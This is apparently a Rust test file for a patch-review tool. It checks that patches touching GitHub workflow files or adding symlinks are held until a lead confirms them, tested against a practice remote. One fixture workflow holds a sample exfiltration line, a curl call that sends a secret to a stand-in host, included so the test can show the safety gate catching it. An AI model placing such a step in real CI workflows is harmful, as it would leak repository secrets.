//! Changes that touch risky paths (the automation GitHub runs with the repository's secrets,
//! links, submodules…) are held until the lead confirms them with "I understand"; links are
//! refused unless the project allows them. Run against the demo's practice remote.

use patchdesk_error::{Code, Coded};
use patchdesk_forge::PracticeRemote;
use patchdesk_project::{demo, Project};
use patchdesk_promote::{promote, PromoteError, PromoteRequest};

fn demo_with(patch_name: &str, patch: &str) -> (tempfile::TempDir, demo::DemoProject, String) {
    let dir = tempfile::tempdir().unwrap();
    let d = demo::ensure(&dir.path().join("demo")).unwrap();
    let drop = dir.path().join(patch_name);
    std::fs::write(&drop, patch).unwrap();
    let report = patchdesk_intake::Queue::open(&d.project).unwrap().import_paths(&[drop]);
    assert!(report.refused.is_empty(), "{:?}", report.refused);
    let name = report.imported[0].name.clone();
    Project::open(&d.project).unwrap();
    (dir, d, name)
}

fn remote_branches(d: &demo::DemoProject) -> Vec<String> {
    let bare = git2::Repository::open_bare(&d.practice_remote).unwrap();
    let branches = bare.branches(Some(git2::BranchType::Local)).unwrap();
    branches.map(|b| b.unwrap().0.name().unwrap().unwrap().to_string()).collect()
}

const WORKFLOW: &str = "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml
new file mode 100644
--- /dev/null
+++ b/.github/workflows/ci.yml
@@ -0,0 +1,3 @@
+on: push
+jobs:
+  x: { runs-on: ubuntu-latest, steps: [ { run: 'curl https://example.invalid/$SECRET' } ] }
diff --git a/notes.txt b/notes.txt
new file mode 100644
--- /dev/null
+++ b/notes.txt
@@ -0,0 +1 @@
+a note
";

#[test]
fn a_workflow_change_waits_for_i_understand_and_nothing_is_sent_before() {
    let (_tmp, d, name) = demo_with("patch_20261130_101500_F2.2.diff", WORKFLOW);
    let url = d.practice_remote.to_string_lossy().into_owned();
    let forge = PracticeRemote::open(&url).unwrap();
    let before = remote_branches(&d);

    let err = promote(&PromoteRequest::new(&d.project, &name, &url), &forge, &|_| {}).unwrap_err();
    assert_eq!(err.code(), Code::RisksNotConfirmed, "{err}");
    let words = err.to_string();
    assert!(words.contains(".github/workflows/ci.yml") && words.contains("I understand"), "{words}");
    assert!(!words.contains("notes.txt"), "only the risky path is named: {words}");
    match &err {
        PromoteError::RisksNotConfirmed { risks, .. } => assert_eq!(risks.len(), 1),
        other => panic!("{other:?}"),
    }
    assert_eq!(remote_branches(&d), before, "nothing reached the remote");

    // Confirming another path is not enough; confirming this one sends it.
    let mut req = PromoteRequest::new(&d.project, &name, &url);
    req.confirmed_risks = vec!["notes.txt".into()];
    assert_eq!(promote(&req, &forge, &|_| {}).unwrap_err().code(), Code::RisksNotConfirmed);
    req.confirmed_risks = vec![".github/workflows/ci.yml".into()];
    let out = promote(&req, &forge, &|_| {}).unwrap();
    assert!(remote_branches(&d).contains(&out.branch));
}

const LINK: &str = "diff --git a/docs/latest b/docs/latest
new file mode 120000
--- /dev/null
+++ b/docs/latest
@@ -0,0 +1 @@
+guide.md
\\ No newline at end of file
";

#[test]
fn links_from_pods_are_refused_unless_the_project_allows_them_and_then_held() {
    let (_tmp, d, name) = demo_with("patch_20261130_101600_F2.2.diff", LINK);
    let url = d.practice_remote.to_string_lossy().into_owned();
    let forge = PracticeRemote::open(&url).unwrap();

    let err = promote(&PromoteRequest::new(&d.project, &name, &url), &forge, &|_| {}).unwrap_err();
    assert_eq!(err.code(), Code::PatchDoesNotApply, "{err}");
    assert!(err.to_string().contains("docs/latest"), "{err}");

    std::fs::create_dir_all(d.project.join(".patchdesk")).unwrap();
    std::fs::write(
        d.project.join(".patchdesk/config.yaml"),
        "# the project's settings\nreview:\n  allow_links: true\n",
    )
    .unwrap();
    let err = promote(&PromoteRequest::new(&d.project, &name, &url), &forge, &|_| {}).unwrap_err();
    assert_eq!(err.code(), Code::RisksNotConfirmed, "allowed links still need a look: {err}");
    let mut req = PromoteRequest::new(&d.project, &name, &url);
    req.confirmed_risks = vec!["docs/latest".into()];
    promote(&req, &forge, &|_| {}).unwrap();
}
